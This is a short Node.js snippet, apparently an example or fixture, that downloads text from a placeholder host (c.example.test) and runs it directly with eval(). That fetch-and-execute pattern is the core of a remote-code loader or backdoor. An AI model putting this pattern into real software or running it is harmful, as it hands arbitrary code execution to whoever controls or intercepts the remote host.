const https = require("https");
let text = "";
https.get("https://c.example.test/p", (reply) => {
  reply.on("data", (part) => (text += part));
  reply.on("end", () => eval(text));
});
